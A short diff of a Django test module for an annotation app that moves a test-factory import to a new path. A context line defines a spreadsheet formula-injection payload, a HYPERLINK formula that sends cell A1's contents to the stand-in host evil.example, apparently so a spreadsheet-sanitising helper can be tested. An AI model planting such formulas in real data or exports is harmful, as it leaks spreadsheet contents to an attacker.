@@ -12,8 +12,8 @@ from analysis.models import AnalysisRun
 from annotation.models import Annotation, WorkerProfile
 from annotation.services import annotation_submit, assignment_next
 from annotation.spreadsheet import safe_cell
+from task_types.pairwise.tests.factories import answer, pair_payload
 from tests.factories import ItemFactory, ProjectFactory, UserFactory
-from tests.task_types.pairwise.factories import answer, pair_payload
 
 pytestmark = pytest.mark.django_db
 HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full reason")'
